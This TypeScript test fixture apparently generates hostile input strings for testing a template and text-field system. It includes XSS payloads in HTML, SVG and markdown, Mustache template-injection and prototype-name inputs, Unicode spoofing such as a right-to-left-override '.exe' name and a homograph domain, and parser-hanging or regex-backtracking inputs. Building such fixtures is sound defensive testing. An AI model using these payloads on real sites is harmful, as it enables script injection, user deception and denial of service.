/**
 * Texts that try to run scripts, to load foreign resources or to hang a page, for every text field. They fit
 * into a template (50,000 characters, no NUL, not blank); `isShort` ones into a name too.
 */
export interface HostileText {
  readonly name: string;
  readonly text: string;
  readonly isShort: boolean;
}

/** Name of the counter on `window` that a text raises when its script runs. */
export const hostileCounter = '__hostileRuns';
/** A host that cannot exist (RFC 2606), so that requests to it are visible and reach no server. */
export const hostileHost = 'evil.invalid';

const run = `window.${hostileCounter}=(window.${hostileCounter}||0)+1`;
const away = `https://${hostileHost}`;

/** HTML that runs a script or loads a resource when inserted into a page. */
const markup: readonly string[] = [
  `<script>${run}</script>`,
  `<script src=${away}/a.js></script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<img src=x onerror=${run}>`,
  `<img src=${away}/a.png>`,
  `<img srcset="${away}/a.png 1x">`,
  `<img src=x onerror='${run}'//`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><image href=${away}/a.svg /></svg>`,
  `<svg><use href=${away}/a.svg#x /></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<iframe src=${away}></iframe>`,
  `<iframe srcdoc="<script>parent.${hostileCounter}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${hostileCounter}=1"></iframe>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="${away}" ping="${away}/ping">x</a>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=${away}/a.png src=${away}/a.mp4></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<body background=${away}/a.png>`,
  `<object data=${away}/a.swf></object>`,
  `<embed src=${away}/a.swf>`,
  `<link rel=stylesheet href=${away}/a.css>`,
  `<style>@import '${away}/a.css';</style>`,
  `<div style="background:url(${away}/a.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<base href=${away}/>`,
  `<form action=${away}><button>x</button></form>`,
  `<math><mi xlink:href="javascript:${run}">x</mi></math>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<button onclick=${run} autofocus>x</button>`,
  `<div contenteditable onfocus=${run} autofocus>x</div>`,
  `<x onclick=${run}>x</x>`,
];

/** Texts that break out of the HTML context they are inserted into. */
const surroundings: readonly (readonly [name: string, wrap: (text: string) => string])[] = [
  ['as it is', (text) => text],
  ['out of an attribute', (text) => `">${text}`],
  ['out of a field', (text) => `</textarea></title></style>-->${text}`],
  ['in bold', (text) => `**${text}**`],
  ['in a list', (text) => `- ok\n\n  ${text}`],
  ['as a name', (text) => `{{{businessName}}}${text}`],
];

const markdown: readonly string[] = [
  ...[
    'javascript',
    'JaVaScRiPt',
    'java&#115;cript',
    'java\\nscript',
    ' javascript',
    'vbscript',
  ].flatMap((scheme) => [
    `[x](${scheme}:${run})`,
    `<${scheme}:${run}>`,
    `[x][1]\n\n[1]: ${scheme}:${run}`,
  ]),
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](${away} "title")`,
  `<${away}>`,
  `![x](${away}/a.png)`,
  `![x][p]\n\n[p]: ${away}/a.png`,
  `[![x](${away}/a.png)](${away})`,
  `![x](data:image/svg+xml,<svg onload=${run}>)`,
  '```html\n<script>1</script>\n',
  `\`<img src=x onerror=${run}>`,
  `[x](\`javascript:${run}\`)`,
  `<!-- --><img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>]]>`,
  `<?php ${run} ?>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
];

const prototypeNames = [
  '__proto__',
  'constructor',
  'constructor.constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  '__lookupGetter__',
  'window',
  'globalThis',
  'document.cookie',
];

const mustache: readonly string[] = [
  ...prototypeNames.flatMap((name) => [
    `{{${name}}}`,
    `{{{${name}}}} {{&${name}}}`,
    `{{#${name}}}{{.}}${run}{{/${name}}}`,
  ]),
  `{{{businessName}}}<img src=x onerror=${run}>{{&contactName}}`,
  `{{> ${away}/partial}}`,
  `{{=<% %>=}}<% businessName %>`,
  '{{! never closed',
  '{{#a}}{{/b}}',
  '{{#a}}{{#b}}{{/a}}{{/b}}',
  '{{/a}}',
  '{{}}',
  '{{{}}}',
  '{{#}}{{/}}',
  '{{{{{{a}}}}}}',
  '}}{{',
  '{{#if constructor}}{{else}}{{/if}}',
  `{{#lambda}}${run}{{/lambda}}`,
  `\${${run}} #{${run}} <%= ${run} %> [[${run}]]`,
  `{{constructor.constructor('${run}')()}}`,
];

const unicode: readonly string[] = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068abc\u2069\u2069\u2069',
  '\u200B\u200C\u200D\uFEFFhidden',
  `e${'\u0301'.repeat(500)}`,
  '\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}'.repeat(20),
  'a\u2028b\u2029c\u0085d',
  '\u0001\u0008\u001B[31mred\u0007\u007F',
  '\uFFFD\uFFFE\u{10FFFF}',
  'ﷺ'.repeat(40),
  'раураl.example',
  'שלום \u202Dolleh عربى 123',
  '\r\n\r\n\rmixed\n\r',
];

const times = (text: string, count: number) => text.repeat(count).slice(0, 49_000);

const heavy: Readonly<Record<string, string>> = {
  'sections 60 deep': `${times('{{#industry}}', 60)}x${times('{{/industry}}', 60)}`,
  'sections 1,800 deep': `${'{{#industry}}'.repeat(1800)}x${'{{/industry}}'.repeat(1800)}`,
  'lists in lists': `${'{{#currentProblems}}'.repeat(40)}x${'{{/currentProblems}}'.repeat(40)}`,
  'ten thousand tags': times('{{businessName}}', 10_000),
  'unknown names': Array.from({ length: 4000 }, (_, i) => `{{n${i}}}`)
    .join('')
    .slice(0, 49_000),
  'open braces': times('{{', 25_000),
  'closing braces': `x${times('}}', 25_000)}`,
  'triple braces': times('{{{', 16_000),
  'quotes in quotes': times('>', 49_000),
  'spaced quotes': times('> ', 25_000),
  'numbered lists in lists': times('1. ', 16_000),
  'bullets in bullets': times('- ', 25_000),
  'open brackets': times('[', 49_000),
  'balanced brackets': `${'['.repeat(24_000)}${']'.repeat(24_000)}`,
  'open links': times('[a](', 12_000),
  'open pictures': times('![', 24_000),
  stars: times('*a_b', 12_000),
  'double stars': times('**a', 16_000),
  ticks: times('`a', 24_000),
  'angle brackets': times('<', 49_000),
  'open tags': times('<b>', 16_000),
  ampersands: times('&', 49_000),
  definitions: times('[a]: b\n', 7_000),
  paragraphs: times('a\n\n', 16_000),
  'list items': times('- a\n', 12_000),
  headings: times('# a\n', 12_000),
  'line ends': `x${times('\n', 48_000)}y`,
  'one long word': times('a', 49_000),
  'one long line': times('word ', 9_800),
  'blanks before an end': `${times(' ', 48_000)}x`,
  'tabs before an end': `${times('\t', 48_000)}x`,
  'nearly a note': times('[PAUSE - ', 5_400),
  'empty quotes': times('"" ', 16_000),
  apostrophes: times("'", 49_000),
  commas: times(' , ', 16_000),
  'nearly an address': `${times('a@', 24_000)}!`,
  'nearly a number': `${times('1,', 24_000)}!`,
  'backtracking bait': `${times('a', 30_000)}!${times('ab', 9_000)}?`,
  'wide characters': times('\u{1F600}', 24_000),
  'stacked accents': `e${times('\u0301', 48_000)}`,
};

/** All hostile texts, at least 300 with unique names. */
export const hostileTexts: readonly HostileText[] = [
  ...markup.flatMap((text, i) =>
    surroundings.map(([name, wrap]) => toHostile(`markup ${i + 1} ${name}`, wrap(text))),
  ),
  ...markdown.map((text, i) => toHostile(`markdown ${i + 1}`, text)),
  ...mustache.map((text, i) => toHostile(`mustache ${i + 1}`, text)),
  ...unicode.map((text, i) => toHostile(`unicode ${i + 1}`, text)),
  ...Object.entries(heavy).map(([name, text]) => toHostile(`heavy: ${name}`, text)),
];

function toHostile(name: string, text: string): HostileText {
  return { name, text: text.toWellFormed(), isShort: text.length <= 200 };
}
